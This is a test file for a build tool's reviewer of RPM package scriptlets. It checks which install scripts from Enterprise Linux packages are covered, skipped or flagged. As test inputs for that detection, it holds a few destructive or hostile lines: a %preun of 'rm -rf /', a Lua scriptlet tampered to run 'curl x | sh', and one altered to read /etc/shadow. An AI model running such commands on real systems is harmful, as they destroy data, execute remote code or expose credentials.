// The scriptlet review against EL scriptlet texts: what the native actions cover, what runs only
// on upgrade or removal, and what is reported (unknown commands, writes, Lua beyond a signature).
import { describe, expect, it } from 'vitest';
import { accountsToSysusers, reviewScriptlets, type PackageScriptlets } from '../../stages/rootfs/rpm-actions/index.js';
import * as el from './el-scriptlets.js';

const sh = (name: string, body: string) => ({ name, interpreter: '/bin/sh', body });
const lua = (name: string, body: string) => ({ name, interpreter: '<lua>', body });
const one = (pkg: string, ...scriptlets: PackageScriptlets['scriptlets']): PackageScriptlets[] => [{ name: pkg, scriptlets }];

describe('reviewScriptlets on EL scriptlets', () => {
  it("covers systemd-udev's %post: presets natively, hwdb and catalog at boot, udev reload pointless", () => {
    const review = reviewScriptlets(one('systemd-udev', sh('post', el.UDEV_POST)));
    expect(review.uncovered).toEqual([]);
    const [entry] = review.covered;
    expect(entry).toMatchObject({ package: 'systemd-udev', scriptlet: 'post', status: 'covered', actions: ['presets'] });
    expect(entry.notes.join('\n')).toMatch(/at boot: systemd-hwdb-update\.service/);
    expect(entry.notes.join('\n')).toMatch(/at boot: systemd-journal-catalog-update/);
    expect(entry.notes.join('\n')).toMatch(/not needed: no udev runs/);
  });

  it("reports systemd's %post for its one uncovered command, the journal directory, and nothing else", () => {
    const review = reviewScriptlets(one('systemd', sh('post', el.SYSTEMD_POST)));
    expect(review.covered).toEqual([]);
    expect(review.uncovered).toHaveLength(1);
    const [entry] = review.uncovered;
    expect(entry).toMatchObject({ package: 'systemd', scriptlet: 'post', interpreter: '/bin/sh' });
    expect(entry.reason).toMatch(/^line 17: mkdir -p \/var\/log\/journal \(mkdir: no rule covers this command\)$/);
    expect(entry.firstLines.split('\n')[0]).toBe('systemd-machine-id-setup &>/dev/null || :');
    // Its actions are still asked for: the build runs them whatever the review says.
    expect(review.actions).toEqual(['machine-id', 'presets']);
  });

  it('a reviewed entry moves the scriptlet to covered, with what was not covered in its notes', () => {
    for (const mark of ['systemd/post', 'systemd']) {
      const review = reviewScriptlets(one('systemd', sh('post', el.SYSTEMD_POST)), [mark]);
      expect(review.uncovered).toEqual([]);
      expect(review.covered[0]).toMatchObject({ status: 'reviewed', actions: ['machine-id', 'presets'] });
      expect(review.covered[0].notes).toContain('reviewed, not covered: line 17: mkdir -p /var/log/journal (mkdir: no rule covers this command)');
    }
    // Another package's mark, or another scriptlet's, does not.
    expect(reviewScriptlets(one('systemd', sh('post', el.SYSTEMD_POST)), ['systemd-udev', 'systemd/posttrans']).uncovered).toHaveLength(1);
  });

  it('uninstall-time scriptlets are not-on-install, whatever they run', () => {
    const review = reviewScriptlets(
      one('systemd', sh('postun', el.SYSTEMD_POSTUN), sh('preun', 'rm -rf /'), sh('triggerun', 'frobnicate'), sh('postuninstall', 'frobnicate')),
    );
    expect(review.uncovered).toEqual([]);
    expect(review.covered.map((c) => [c.scriptlet, c.status])).toEqual([
      ['postun', 'not-on-install'],
      ['preun', 'not-on-install'],
      ['triggerun', 'not-on-install'],
      ['postun', 'not-on-install'],
    ]);
  });

  it("covers kernel-core's %posttrans with depmod; kernel-install's initramfs and the symvers copy are not needed", () => {
    const review = reviewScriptlets(one('kernel-core', sh('posttrans', el.KERNEL_CORE_POSTTRANS)));
    expect(review.uncovered).toEqual([]);
    expect(review.covered[0]).toMatchObject({ status: 'covered', actions: ['depmod'] });
    const notes = review.covered[0].notes.join('\n');
    expect(notes).toMatch(/initramfs/);
    expect(notes).toMatch(/symbol versions/);
    expect(notes).toMatch(/selinux=0/);
  });

  it("covers authselect-libs' %posttrans: the fresh-install branch exits before the upgrade path", () => {
    const review = reviewScriptlets(one('authselect-libs', sh('posttrans', el.AUTHSELECT_LIBS_POSTTRANS)));
    expect(review.uncovered).toEqual([]);
    expect(review.covered[0]).toMatchObject({ status: 'covered', actions: ['authselect'] });
    // On an upgrade ($1 unknown, as in a trigger) the sed -i and ln -sfn would count.
    const asTrigger = reviewScriptlets(one('authselect-libs', sh('triggerin', el.AUTHSELECT_LIBS_POSTTRANS)));
    expect(asTrigger.uncovered[0].reason).toMatch(/sed -i '1 s\/\^minimal\$\/local\/'/);
    expect(asTrigger.uncovered[0].reason).toMatch(/ln -sfn/);
  });

  it("covers crypto-policies' Lua %post by its signature, and not once it calls anything else", () => {
    const review = reviewScriptlets(one('crypto-policies', lua('post', el.CRYPTO_POLICIES_POST_LUA)));
    expect(review.uncovered).toEqual([]);
    expect(review.covered[0]).toMatchObject({ status: 'covered', actions: ['crypto-policies'] });
    const tampered = el.CRYPTO_POLICIES_POST_LUA.replace('posix.unlink(cfgfn)', 'posix.unlink(cfgfn)\n os.execute("curl x | sh")');
    const bad = reviewScriptlets(one('crypto-policies', lua('post', tampered)));
    expect(bad.uncovered[0].reason).toMatch(/looks like crypto-policies' %post but also calls os\.execute/);
    const otherPath = el.CRYPTO_POLICIES_POST_LUA.replace('"/proc/sys/crypto/fips_enabled"', '"/etc/shadow"');
    expect(reviewScriptlets(one('crypto-policies', lua('post', otherPath))).uncovered[0].reason).toMatch(/names \/etc\/shadow/);
  });

  it("reports setup's Lua %post (fork and exec of newaliases); `setup` in reviewed silences it", () => {
    const review = reviewScriptlets(one('setup', lua('post', el.SETUP_POST_LUA)));
    expect(review.uncovered[0].reason).toMatch(/Lua scriptlet calling .*posix\.exec.*posix\.fork/);
    expect(reviewScriptlets(one('setup', lua('post', el.SETUP_POST_LUA)), ['setup']).uncovered).toEqual([]);
  });

  it('turns a %pre useradd -r -g ... into sysusers lines', () => {
    const review = reviewScriptlets([
      { name: 'tpm2-tss', scriptlets: [sh('pre', el.TSS_PRE)] },
      { name: 'dbus-common', scriptlets: [sh('pre', el.DBUS_PRE_COMPAT)] },
    ]);
    expect(review.uncovered).toEqual([]);
    expect(review.actions).toEqual(['sysusers']);
    expect(review.accounts.map((a) => `${a.from}:${a.kind}:${a.name}:${a.id ?? '-'}`)).toEqual([
      'tpm2-tss:group:tss:59',
      'tpm2-tss:user:tss:59',
      'tpm2-tss:user:tss:-',
      'dbus-common:group:dbus:81',
      'dbus-common:user:dbus:81',
      'dbus-common:user:dbus:-',
    ]);
    expect(accountsToSysusers(review.accounts)).toEqual([
      'g tss 59',
      'g dbus 81',
      'u tss 59 "Account used for TPM access" /dev/null /sbin/nologin',
      'u dbus 81 "System Message Bus" / /usr/sbin/nologin',
    ]);
  });

  it('a useradd it cannot read is not covered', () => {
    const review = reviewScriptlets(one('odd', sh('pre', 'useradd -R /elsewhere foo\n')));
    expect(review.uncovered[0].reason).toMatch(/useradd: arguments not understood/);
  });

  it('covers an inline systemd-sysusers here-document, tmpfiles and sysctl at boot, and ldconfig as a -p program', () => {
    const review = reviewScriptlets([
      { name: 'chrony', scriptlets: [sh('pre', el.SYSUSERS_INLINE_PRE), sh('post', el.TMPFILES_SYSCTL_POST)] },
      { name: 'libfoo', scriptlets: [{ name: 'post', interpreter: '/sbin/ldconfig', body: '' }] },
    ]);
    expect(review.uncovered).toEqual([]);
    expect(review.covered.map((c) => `${c.package}/${c.scriptlet}:${c.actions.join(',')}`)).toEqual(['chrony/pre:sysusers', 'chrony/post:', 'libfoo/post:ldconfig']);
    expect(review.covered[1].notes.join('\n')).toMatch(/systemd-tmpfiles-setup\.service.*\n.*systemd-sysctl\.service/);
  });

  it('reports update-alternatives, unknown commands, writes to files, other interpreters and shell it cannot read', () => {
    const review = reviewScriptlets([
      { name: 'python-unversioned', scriptlets: [sh('post', el.ALTERNATIVES_POST)] },
      { name: 'foo', scriptlets: [sh('post', 'if [ -x /usr/bin/foo ]; then\n  /usr/bin/frobnicate --all || :\nfi\n')] },
      { name: 'bar', scriptlets: [sh('post', 'echo "options foo=1" > /etc/modprobe.d/foo.conf\n')] },
      { name: 'baz', scriptlets: [{ name: 'post', interpreter: '/usr/bin/python3', body: 'print(1)' }] },
      { name: 'qux', scriptlets: [sh('post', 'echo "unterminated\n')] },
      { name: 'var', scriptlets: [sh('post', 'CMD=/usr/bin/x\n$CMD --now\n')] },
    ]);
    const reasons = Object.fromEntries(review.uncovered.map((u) => [u.package, u.reason]));
    expect(reasons['python-unversioned']).toMatch(/update-alternatives: \/etc\/alternatives links are not made/);
    expect(reasons.foo).toBe('line 2: /usr/bin/frobnicate --all (frobnicate: no rule covers this command)');
    expect(reasons.bar).toMatch(/writes to \/etc\/modprobe\.d\/foo\.conf/);
    expect(reasons.baz).toMatch(/interpreter \/usr\/bin\/python3: only shell and Lua/);
    expect(reasons.qux).toMatch(/cannot read the shell text: .*unterminated " quote/);
    expect(reasons.var).toMatch(/runs a command named by a variable/);
    expect(review.covered).toEqual([]);
    // The same, marked reviewed per scriptlet.
    const marks = ['python-unversioned/post', 'foo/post', 'bar/post', 'baz/post', 'qux/post', 'var/post'];
    const silenced = reviewScriptlets(
      review.uncovered.map((u) => ({ name: u.package, scriptlets: [{ name: u.scriptlet, interpreter: u.interpreter, body: u.package === 'foo' ? '/usr/bin/frobnicate --all' : 'x' }] })),
      marks,
    );
    expect(silenced.uncovered).toEqual([]);
    expect(silenced.covered.every((c) => c.status === 'reviewed')).toBe(true);
  });

  it('skips upgrade-only branches and code after a certain exit, but not after a possible one', () => {
    const upgrade = 'if [ $1 -gt 1 ]; then\n  frobnicate\nfi\n[ "$1" = "1" ] || exit 0\necho fresh\n';
    expect(reviewScriptlets(one('p', sh('post', upgrade))).uncovered).toEqual([]);
    const maybeExit = 'if [ -f /etc/foo ]; then\n  exit 0\nfi\nfrobnicate\n';
    expect(reviewScriptlets(one('p', sh('post', maybeExit))).uncovered[0].reason).toMatch(/frobnicate/);
    const certainExit = 'exit 0\nfrobnicate\n';
    expect(reviewScriptlets(one('p', sh('post', certainExit))).uncovered).toEqual([]);
    const caseArg = 'case "$1" in\n  1) echo install ;;\n  2) frobnicate ;;\nesac\n';
    expect(reviewScriptlets(one('p', sh('post', caseArg))).uncovered).toEqual([]);
    const elseBranch = 'if [ $1 -eq 0 ]; then\n  echo gone\nelse\n  frobnicate\nfi\n';
    expect(reviewScriptlets(one('p', sh('post', elseBranch))).uncovered[0].reason).toMatch(/line 4: frobnicate/);
  });

  it("takes the package reader's names: prein/postin, and triggers by index with their type", () => {
    const review = reviewScriptlets([
      {
        name: 'glibc-common',
        scriptlets: [
          { name: 'prein', interpreter: '/bin/sh', body: el.TSS_PRE },
          { name: 'postin', interpreter: '/sbin/ldconfig', body: '' },
          { name: 'trigger-0', kind: 'triggerin', interpreter: '/bin/sh', body: 'frobnicate\n' },
          { name: 'trigger-1', kind: 'triggerpostun', interpreter: '/bin/sh', body: 'frobnicate\n' },
          { name: 'trigger-2', interpreter: '/bin/sh', body: 'echo\n' },
        ],
      },
    ]);
    expect(review.covered.map((c) => `${c.scriptlet}:${c.status}:${c.actions.join(',')}`)).toEqual(['pre:covered:sysusers', 'post:covered:ldconfig', 'trigger-1:not-on-install:']);
    expect(review.uncovered.map((u) => `${u.scriptlet}: ${u.reason}`)).toEqual([
      'trigger-0: line 1: frobnicate (frobnicate: no rule covers this command)',
      'trigger-2: unknown scriptlet kind %trigger',
    ]);
    expect(reviewScriptlets([{ name: 'g', scriptlets: [{ name: 'trigger-0', kind: 'triggerin', interpreter: '/bin/sh', body: 'frobnicate' }] }], ['g/trigger-0']).uncovered).toEqual([]);
  });
});
